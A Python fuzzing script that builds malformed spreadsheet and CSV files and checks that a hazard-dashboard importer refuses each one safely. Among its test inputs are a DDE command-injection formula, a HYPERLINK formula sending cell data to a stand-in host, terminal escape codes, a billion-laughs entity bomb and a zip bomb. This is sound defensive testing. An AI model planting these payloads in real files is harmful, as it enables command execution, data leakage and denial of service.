"""Malformed files against the import: each refused with a reason, 0 rows written, bounded time and memory.

    python -m scripts.malformed_corpus [--count 200] [--keep DIR]

Generates ``--count`` files of the kinds in ``KINDS`` (the ones issue #13 names and more: CR line endings, a
cell over 131,072 characters, missing shared strings, a truncated zip, a password-protected workbook, an empty
first sheet, HTML saved as .xls, binary junk, NUL bytes and escape codes in cells, two columns for one field,
1,000,000 junk rows, a file over the size limit, more valid rows than the row cap, a shared-strings zip bomb…)
into a temporary folder, then imports every one twice, on a copy of the demo store:

1. through the domain function (``hazards.import_file``), counting the store's hazards, imports and audit
   events before and after;
2. through the command line (``python -m dashboard import hazards FILE``, in this process), checking its
   exit code and that it printed a refusal (no traceback).

Per file it measures the wall time and how far the process's resident memory rose during the import;
it prints the figures, each kind's count and the slowest files, and exits 1 if any file was accepted, wrote a
row, printed a traceback, or went over ``--max-seconds`` / ``--max-mb``. A quick sample runs in the suite
(tests/ingest/test_malformed_corpus.py); the figures in the README come from the full run.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import os
import random
import resource
import shutil
import sys
import tempfile
import time
import threading
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HEADERS = ["发现时间", "来源", "县区", "单位名称", "行业领域", "隐患部位", "隐患描述", "隐患等级", "治理类型", "整改期限",
           "责任人电话"]


def _row(n: int, **over: object) -> list:
    """A valid hazard row (unique by its enterprise name), with ``over`` replacing columns by header."""
    base = {"发现时间": "2021-04-14", "来源": "群众举报", "县区": "汉滨区", "单位名称": f"测试单位{n}", "行业领域": "消防",
            "隐患部位": f"{n}号楼", "隐患描述": f"疏散通道堆放杂物{n}", "隐患等级": "一般隐患", "治理类型": "限期整改",
            "整改期限": "2021-05-20", "责任人电话": "13800000000"}
    base.update(over)
    return [base[h] for h in HEADERS]


def _csv(rows: list[list], *, newline: str = "\r\n", encoding: str = "utf-8-sig", delimiter: str = ",") -> bytes:
    def cell(value: object) -> str:
        text = "" if value is None else str(value)
        if any(ch in text for ch in (delimiter, '"', "\r", "\n")):
            text = '"' + text.replace('"', '""') + '"'
        return text

    return (newline.join(delimiter.join(cell(v) for v in row) for row in rows) + newline).encode(encoding)


def _xlsx(rows: list[list], *, formulas: bool = False, sheets: int = 1, first_empty: bool = False) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": formulas,
                                        "strings_to_urls": False})
    if first_empty:
        book.add_worksheet("空白")
    sheet = book.add_worksheet("数据")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    for n in range(sheets - 1):
        book.add_worksheet(f"其他{n}")
    book.close()
    return buffer.getvalue()


def _rezip(data: bytes, *, drop: tuple[str, ...] = (), replace: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
    return out.getvalue()


def _good(rng: random.Random, n: int = 3) -> list[list]:
    start = rng.randrange(10_000)
    return [HEADERS] + [_row(start + i) for i in range(n)]


# -- the kinds ----------------------------------------------------------------------------------------------
def cr_line_endings(rng: random.Random) -> bytes:  # read fine now; the bad date refuses it as a row error
    rows = _good(rng, rng.randint(2, 6))
    rows[-1][0] = "上周三"
    return _csv(rows, newline="\r")


def mixed_line_endings(rng: random.Random) -> bytes:
    rows = _good(rng, 4)
    rows[2][2] = "西安市"
    text = _csv(rows, newline="\n").decode("utf-8-sig").split("\n")
    return ("\r".join(text[:2]) + "\r\n" + "\n".join(text[2:])).encode()


def huge_csv_cell(rng: random.Random) -> bytes:
    rows = _good(rng, 2)
    rows[1][6] = "杂" * rng.randint(131_073, 200_000)
    return _csv(rows)


def unclosed_quote(rng: random.Random) -> bytes:
    rows = _good(rng, 3)
    text = _csv(rows).decode("utf-8-sig")
    cut = text.index("\r\n") + 2
    return (text[:cut] + '"' + text[cut:] + "尾" * rng.randint(2100, 5000)).encode()


def nul_in_cell(rng: random.Random) -> bytes:
    rows = _good(rng, 3)
    rows[rng.randint(1, 3)][6] = "杂物\x00堆放"
    return _csv(rows, encoding=rng.choice(["utf-8", "gb18030"]))


def escape_codes_in_cell(rng: random.Random) -> bytes:
    rows = _good(rng, 3)
    rows[2][3] = rng.choice(["\x1b[2J\x1b[31m清屏单位", "\x1b]0;pwned\x07单位", "单位\x9b6n", "单位\x07\x08"])
    return _csv(rows)


def two_descriptions_csv(rng: random.Random) -> bytes:
    rows = _good(rng, 2)
    return _csv([row + [("隐患描述" if i == 0 else "另一段描述")] for i, row in enumerate(rows)])


def alias_columns_xlsx(rng: random.Random) -> bytes:
    rows = _good(rng, 2)
    return _xlsx([row + [rng.choice(["隐患内容", "存在问题", "问题描述"]) if i == 0 else "x"] for i, row in enumerate(rows)])


def formula_cells(rng: random.Random) -> bytes:
    rows = _good(rng, 2)
    rows[1][6] = rng.choice(['=HYPERLINK("http://x/?"&A1,"点我")', "=1+2", "=cmd|' /C calc'!A0"])
    return _xlsx(rows, formulas=True)


def excel_error_value(rng: random.Random) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    date_format = book.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(_good(rng, 2)):
        sheet.write_row(r, 0, row)
    sheet.write_number(2, 0, rng.choice([1e12, -5.0, 3e9]), date_format)  # a date no calendar has
    book.close()
    return buffer.getvalue()


def missing_shared_strings(rng: random.Random) -> bytes:
    return _rezip(_xlsx(_good(rng)), drop=("xl/sharedStrings.xml",))


def short_shared_strings(rng: random.Random) -> bytes:
    """Cells pointing past the end of the shared-strings table (openpyxl: IndexError)."""
    data = _xlsx(_good(rng, 4))
    table = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml").decode()
    kept = "<si>".join(table.split("<si>")[:rng.randint(1, 12) + 1])
    table = kept if kept.endswith("</sst>") else kept + "</sst>"
    return _rezip(data, replace={"xl/sharedStrings.xml": table.encode()})


def truncated_zip(rng: random.Random) -> bytes:
    data = _xlsx(_good(rng, 20))
    return data[: rng.randint(len(data) // 5, len(data) - 30)]


def password_protected(rng: random.Random) -> bytes:
    """What Excel writes for a workbook with an open password: an OLE container holding EncryptionInfo and
    EncryptedPackage streams (the bytes after the names are random here: the import refuses on the kind)."""
    names = "EncryptionInfo".encode("utf-16-le") + b"\0" * 4 + "EncryptedPackage".encode("utf-16-le")
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(504)) + names
            + bytes(rng.randrange(256) for _ in range(rng.randint(2000, 9000))))


def empty_first_sheet(rng: random.Random) -> bytes:
    return _xlsx(_good(rng), first_empty=True)


def html_as_xls(rng: random.Random) -> bytes:
    cells = "".join(f"<td>{h}</td>" for h in HEADERS)
    return (f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body>'
            f"<table><tr>{cells}</tr><tr><td>{rng.random()}</td></tr></table></body></html>").encode()


def xml2003_as_xls(rng: random.Random) -> bytes:
    return ('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table>'
            f'<Row><Cell><Data ss:Type="String">发现时间{rng.random()}</Data></Cell></Row></Table></Worksheet>'
            "</Workbook>").encode()


def binary_junk(rng: random.Random) -> bytes:
    return bytes(rng.randrange(256) for _ in range(rng.randint(200, 20_000)))


def ole_junk(rng: random.Random) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(rng.randint(600, 5000)))


def biff_junk(rng: random.Random) -> bytes:
    return b"\x09\x00\x04\x00\x02\x00\x10\x00" + bytes(rng.randrange(256) for _ in range(rng.randint(50, 3000)))


def zero_bytes(rng: random.Random) -> bytes:
    return b""


def whitespace_only(rng: random.Random) -> bytes:
    return rng.choice([b" ", b"\r\n\r\n", b"\t \n", b"\xef\xbb\xbf\n"]) * rng.randint(1, 50)


def pdf_renamed(rng: random.Random) -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" + bytes(rng.randrange(256) for _ in range(500))


def unsupported_type(rng: random.Random) -> bytes:
    return pdf_renamed(rng)


def docx_renamed(rng: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f"<w:document>{rng.random()}</w:document>")
    return out.getvalue()


def ods_renamed(rng: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", f"<office:document-content>{rng.random()}</office:document-content>")
    return out.getvalue()


def plain_zip(rng: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("清单.txt", "发现时间,来源\n" * rng.randint(1, 20))
    return out.getvalue()


def bad_encoding(rng: random.Random) -> bytes:
    return "发现时间,来源\n".encode("utf-8") + b"\xff\x80\xff" * rng.randint(1, 30) + b"\n"


def utf16_without_bom(rng: random.Random) -> bytes:
    return _csv(_good(rng), encoding="utf-16-le", delimiter="\t")


def junk_rows_csv(rng: random.Random, rows: int = 5_000) -> bytes:
    junk = "\n".join(f"x{i},{rng.random():.3f},废" for i in range(rows))
    return (",".join(HEADERS) + "\n" + junk).encode()


def junk_rows_1m_csv(rng: random.Random) -> bytes:
    return junk_rows_csv(rng, 1_000_000)


def junk_rows_1m_xlsx(rng: random.Random) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True, "in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADERS)
    for r in range(1, 1_000_001):
        sheet.write_number(r, 0, r)
    book.close()
    return buffer.getvalue()


def over_size_limit(rng: random.Random) -> bytes:
    limit = _limits().max_bytes
    return (",".join(HEADERS) + "\n").encode() + b"a,b\n" * (limit // 4 + rng.randint(10, 1000))


def over_row_cap(rng: random.Random) -> bytes:
    """More valid rows than ``import_max_rows`` (within the size limit): the read stops at the cap."""
    cap = _limits().max_rows
    header = ["发现时间", "来源", "县区", "单位名称", "行业领域", "隐患描述", "隐患等级", "治理类型"]
    body = "\n".join(f"2021-04-14,群众举报,汉滨区,单位{i},消防,杂物,一般隐患,即查即改" for i in range(cap + 50))
    return (",".join(header) + "\n" + body).encode()


def blank_line_flood(rng: random.Random) -> bytes:
    """The header, then more blank lines than the row cap and a sheet's height together (within the size limit)."""
    from dashboard import ingest

    return (",".join(HEADERS) + "\n").encode() + b"\n" * (_limits().max_rows + ingest.EXCEL_MAX_ROWS + 10)


def shared_strings_bomb(rng: random.Random) -> bytes:
    """A small .xlsx whose shared-strings table unpacks to more than the reader will hold in memory."""
    from dashboard import ingest

    data = _xlsx(_good(rng))
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, source.read(info))
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            stream.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"a" * (1 << 20)
            for _ in range(ingest.SHARED_STRINGS_MAX_BYTES // len(chunk) + 1):
                stream.write(chunk)
            stream.write(b"</t></si></sst>")
    return out.getvalue()


def billion_laughs(rng: random.Random) -> bytes:
    entities = '<!ENTITY lol "lololololololololol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    table = (f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')
    return _rezip(_xlsx(_good(rng)), replace={"xl/sharedStrings.xml": table.encode()})


def no_header(rng: random.Random) -> bytes:
    return _xlsx([[f"数据{rng.random()}", i] for i in range(rng.randint(1, 60))])


def header_below_scan(rng: random.Random) -> bytes:
    return _csv([["说明"]] * rng.randint(31, 60) + _good(rng))


def missing_required(rng: random.Random) -> bytes:
    rows = _good(rng)
    drop = rng.choice([0, 2, 3, 6, 7])
    return _csv([row[:drop] + row[drop + 1:] for row in rows])


def header_only(rng: random.Random) -> bytes:
    return _xlsx([HEADERS] + [[None] * len(HEADERS)] * rng.randint(0, 5))


def bad_values(rng: random.Random) -> bytes:
    rows = _good(rng, 5)
    column, value = rng.choice([(0, "2021-13-45"), (2, "西安市"), (7, "特大"), (10, "12345"), (8, "马上")])
    rows[rng.randint(1, 5)][column] = value
    return _xlsx(rows)


def duplicate_rows(rng: random.Random) -> bytes:
    rows = _good(rng, 3)
    return _csv(rows + [rows[1]])


def huge_xlsx_cell(rng: random.Random) -> bytes:
    rows = _good(rng, 2)
    rows[1][6] = "杂" * rng.randint(2001, 32_000)
    return _xlsx(rows)


def wide_junk(rng: random.Random) -> bytes:
    return _csv([[f"c{i}" for i in range(rng.randint(5_000, 20_000))]] * 3)


def xlsx_named_csv(rng: random.Random) -> bytes:  # read as the .xlsx it is; its bad level refuses it
    rows = _good(rng, 2)
    rows[2][7] = "很大"
    return _xlsx(rows)


@dataclass(frozen=True)
class Kind:
    """One kind of malformed file: how to build it, its suffixes, and what the refusal must say (any of)."""

    build: Callable[[random.Random], bytes]
    suffixes: tuple[str, ...]
    reasons: tuple[str, ...]
    big: bool = False  # built once per run, and left out of the suite's quick sample

    @property
    def name(self) -> str:
        return self.build.__name__


KINDS: tuple[Kind, ...] = (
    Kind(cr_line_endings, (".csv",), ("无法识别的日期",)),
    Kind(mixed_line_endings, (".csv",), ("不是可选值",)),
    Kind(huge_csv_cell, (".csv",), ("131,072",)),
    Kind(unclosed_quote, (".csv",), ("内容过长", "131,072", "必填项为空", "找不到表头")),
    Kind(nul_in_cell, (".csv",), ("控制字符（NUL）",)),
    Kind(escape_codes_in_cell, (".csv",), ("控制字符",)),
    Kind(two_descriptions_csv, (".csv",), ("多列对应同一项",)),
    Kind(alias_columns_xlsx, (".xlsx",), ("多列对应同一项",)),
    Kind(formula_cells, (".xlsx",), ("公式",)),
    Kind(excel_error_value, (".xlsx",), ("错误值", "日期超出范围", "不是有效的Excel日期")),
    Kind(missing_shared_strings, (".xlsx",), ("无法读取该 Excel 文件",)),
    Kind(short_shared_strings, (".xlsx",), ("无法读取该 Excel 文件",)),
    Kind(truncated_zip, (".xlsx", ".xls"), ("无法读取该 Excel 文件",)),
    Kind(password_protected, (".xlsx", ".xls"), ("密码",)),
    Kind(empty_first_sheet, (".xlsx",), ("第一个工作表没有任何内容",)),
    Kind(html_as_xls, (".xls", ".xlsx"), ("网页（HTML）",)),
    Kind(xml2003_as_xls, (".xls",), ("Excel 2003 XML",)),
    Kind(binary_junk, (".xlsx", ".xls", ".csv", ".txt"), ("不是表格", "无法读取", "编码", "不是 Excel 格式")),
    Kind(ole_junk, (".xls",), ("无法读取该 Excel 文件（.xls）",)),
    Kind(biff_junk, (".xls",), ("无法读取该 Excel 文件（.xls）", "文件是空的", "找不到表头")),
    Kind(zero_bytes, (".xlsx", ".xls", ".csv"), ("文件是空的",)),
    Kind(whitespace_only, (".csv", ".txt"), ("文件是空的",)),
    Kind(pdf_renamed, (".xlsx", ".xls"), ("PDF",)),
    Kind(docx_renamed, (".xlsx",), ("Word 文档",)),
    Kind(ods_renamed, (".xlsx", ".xls"), (".ods",)),
    Kind(plain_zip, (".xlsx",), ("压缩包",)),
    Kind(unsupported_type, (".pdf", ".doc", ".json", ".zip", ""), ("不支持的文件类型",)),
    Kind(bad_encoding, (".csv",), ("编码",)),
    Kind(utf16_without_bom, (".csv", ".txt"), ("不是表格",)),
    Kind(junk_rows_csv, (".csv",), ("问题已达 1,000 处",)),
    Kind(no_header, (".xlsx",), ("找不到表头",)),
    Kind(header_below_scan, (".csv",), ("找不到表头",)),
    Kind(missing_required, (".csv",), ("缺少必填列",)),
    Kind(header_only, (".xlsx",), ("没有数据行",)),
    Kind(bad_values, (".xlsx",), ("日期不存在", "不是可选值", "电话号码", "不是可选值")),
    Kind(duplicate_rows, (".csv",), ("重复",)),
    Kind(huge_xlsx_cell, (".xlsx",), ("内容过长",)),
    Kind(wide_junk, (".csv",), ("找不到表头",)),
    Kind(xlsx_named_csv, (".csv",), ("不是可选值",)),
    Kind(billion_laughs, (".xlsx",), ("无法读取该 Excel 文件",)),
    Kind(junk_rows_1m_csv, (".csv",), ("单次导入上限", "问题已达 1,000 处"), big=True),
    Kind(junk_rows_1m_xlsx, (".xlsx",), ("单次导入上限", "问题已达 1,000 处"), big=True),
    Kind(over_size_limit, (".csv",), ("超过导入上限",), big=True),
    Kind(over_row_cap, (".csv",), ("单次导入上限",), big=True),
    Kind(blank_line_flood, (".csv",), ("单次导入上限",), big=True),
    Kind(shared_strings_bomb, (".xlsx",), ("解压后",), big=True),
)


def _limits():
    from dashboard import ingest

    return ingest.Limits.configured()


def generate(folder: Path, count: int, *, seed: int = 13, kinds: tuple[Kind, ...] = KINDS) -> list[tuple[Path, Kind]]:
    """``count`` files in ``folder``: every big kind of ``kinds`` once, then the others in turn with different
    seeds and suffixes."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    plan = [k for k in kinds if k.big]
    small = [k for k in kinds if not k.big]
    while len(plan) < count:
        plan.append(small[len(plan) % len(small)])
    files = []
    for index, kind in enumerate(plan[:count]):
        suffix = kind.suffixes[index % len(kind.suffixes)]
        path = folder / f"{index:03d}_{kind.name}{suffix}"
        path.write_bytes(kind.build(random.Random(rng.random())))
        files.append((path, kind))
    return files


@dataclass
class Outcome:
    path: Path
    kind: Kind
    refused: bool
    reason: str
    expected: bool
    written: int
    seconds: float
    peak_mb: float
    cli_code: int | None = None
    cli_refused: bool = False
    cli_traceback: bool = False
    problems: list[str] = field(default_factory=list)


def _rss_mb() -> float:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 1024 / 1024


class RssSampler:
    """How far the process's resident memory rose above where it was when started (sampled every 5 ms on a
    thread): native memory (openpyxl's C parts, DuckDB) included, unlike tracemalloc, and without slowing
    the import down."""

    def __init__(self, every: float = 0.005) -> None:
        self.base = self.peak = _rss_mb()
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._run, args=(every,), daemon=True)
        self._thread.start()

    def _run(self, every: float) -> None:
        while not self._done.wait(every):
            self.peak = max(self.peak, _rss_mb())

    def stop(self) -> float:
        self._done.set()
        self._thread.join()
        self.peak = max(self.peak, _rss_mb())
        return self.peak - self.base


def _counts(store) -> tuple[int, int, int]:
    return tuple(store.scalar(f"SELECT count(*) FROM {table}") for table in ("hazards", "imports", "audit_events"))


def import_each(store, files: list[tuple[Path, Kind]]) -> list[Outcome]:
    """Every file through ``hazards.import_file`` on ``store``: refused? which reason? rows written? time, memory."""
    from dashboard import hazards, roles

    outcomes = []
    for path, kind in files:
        before = _counts(store)
        sampler = RssSampler()
        started = time.perf_counter()
        try:
            outcome = hazards.import_file(store, path.read_bytes(), path.name, roles.system("畸形文件测试"))
            refused = not outcome.ok
            reasons = [str(r) for r in outcome.errors["原因"]]
            reason = " / ".join(reasons[:2] + reasons[-1:] if len(reasons) > 3 else reasons) if refused else ""
        except Exception as exc:  # noqa: BLE001 - a traceback is exactly what this script looks for
            refused, reason, reasons = False, f"{type(exc).__name__}: {exc}", []
        seconds = time.perf_counter() - started
        peak = sampler.stop()
        after = _counts(store)
        written = sum(b - a for a, b in zip(before, after))
        expected = refused and any(r in text for r in kind.reasons for text in reasons)
        result = Outcome(path, kind, refused, reason, expected, written, seconds, peak)
        if not refused:
            result.problems.append("accepted" if not reason else "raised " + reason)
        elif not expected:
            result.problems.append(f"reason does not say any of {kind.reasons}: {reason}")
        if written:
            result.problems.append(f"{written} rows written")
        outcomes.append(result)
    return outcomes


def cli_each(db: Path, outcomes: list[Outcome]) -> None:
    """Every file through ``python -m dashboard import hazards FILE`` (in this process, on ``db``)."""
    from dashboard.__main__ import main

    previous = os.environ.get("DASHBOARD_DB")
    os.environ["DASHBOARD_DB"] = str(db)
    try:
        for result in outcomes:
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                try:
                    code = main(["import", "hazards", str(result.path)])  # as the command line's user
                except SystemExit as exc:
                    code = exc.code if isinstance(exc.code, int) else 1
                except Exception as exc:  # noqa: BLE001
                    code, result.cli_traceback = -1, True
                    err.write(f"Traceback {type(exc).__name__}: {exc}")
            text = err.getvalue()
            result.cli_code = code
            result.cli_refused = code == 1 and text.startswith("未导入")
            result.cli_traceback = result.cli_traceback or "Traceback" in text or "\x1b" in text
            if not result.cli_refused or result.cli_traceback:
                result.problems.append(f"CLI exit {code}: {text[:200]!r}")
    finally:
        if previous is None:
            os.environ.pop("DASHBOARD_DB", None)
        else:
            os.environ["DASHBOARD_DB"] = previous


def summary(outcomes: list[Outcome], max_seconds: float, max_mb: float) -> tuple[list[str], bool]:
    """The printed figures, and whether every file met the bar."""
    slow = [o for o in outcomes if o.seconds > max_seconds]
    heavy = [o for o in outcomes if o.peak_mb > max_mb]
    bad = [o for o in outcomes if o.problems]
    kinds: dict[str, int] = {}
    for o in outcomes:
        kinds[o.kind.name] = kinds.get(o.kind.name, 0) + 1
    top = sorted(outcomes, key=lambda o: o.seconds, reverse=True)[:5]
    lines = [
        f"files: {len(outcomes)} of {len(kinds)} kinds; "
        f"total size {sum(o.path.stat().st_size for o in outcomes) / 1e6:.1f} MB",
        f"refused with the expected reason: {sum(o.expected for o in outcomes)}/{len(outcomes)}",
        f"rows written: {sum(o.written for o in outcomes)} (hazards + imports + audit events)",
        f"CLI: refused (exit 1, 未导入…) {sum(o.cli_refused for o in outcomes)}/{len(outcomes)}, "
        f"tracebacks or escape codes printed {sum(o.cli_traceback for o in outcomes)}",
        f"time per file: max {max(o.seconds for o in outcomes):.2f} s, "
        f"median {sorted(o.seconds for o in outcomes)[len(outcomes) // 2]:.3f} s (bound {max_seconds:g} s)",
        f"peak memory growth per file (resident): max {max(o.peak_mb for o in outcomes):.1f} MB "
        f"(bound {max_mb:g} MB); process max RSS {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.0f} MB",
        "slowest: " + "; ".join(f"{o.path.name} {o.seconds:.2f} s {o.peak_mb:.0f} MB" for o in top),
    ]
    for o in bad + [o for o in slow + heavy if o not in bad]:
        lines.append(f"PROBLEM {o.path.name}: {'; '.join(o.problems) or ''} {o.seconds:.2f} s {o.peak_mb:.0f} MB")
    return lines, not (bad or slow or heavy)


def run(count: int, folder: Path, *, kinds: tuple[Kind, ...] = KINDS, demo_db: Path | None = None,
        max_seconds: float = 30, max_mb: float = 150) -> tuple[list[Outcome], list[str], bool]:
    """Generate the files in ``folder``, import each on a copy of the demo store (``demo_db``, or one built
    here), then through the CLI; the outcomes, the printed figures, and whether all met the bar."""
    from dashboard import demo
    from dashboard.db import Store

    db = folder / "store.duckdb"
    if demo_db is None:
        demo.build(db)
    else:
        shutil.copy(demo_db, db)
    files = generate(folder / "files", count, kinds=kinds)
    store = Store.open(db)
    try:
        outcomes = import_each(store, files)
    finally:
        store.close()
    cli_each(db, outcomes)
    lines, ok = summary(outcomes, max_seconds, max_mb)
    return outcomes, lines, ok


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--keep", help="write the files and the store here (kept); default a temporary folder")
    parser.add_argument("--max-seconds", type=float, default=30.0, help="bound on any one file's import")
    parser.add_argument("--max-mb", type=float, default=150.0, help="bound on any one file's peak memory growth")
    args = parser.parse_args(argv)
    folder = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="malformed-"))
    try:
        started = time.perf_counter()
        _, lines, ok = run(args.count, folder, max_seconds=args.max_seconds, max_mb=args.max_mb)
        print("\n".join(lines))
        print(f"whole run {time.perf_counter() - started:.0f} s; {'OK' if ok else 'FAILED'}")
        return 0 if ok else 1
    finally:
        if not args.keep:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
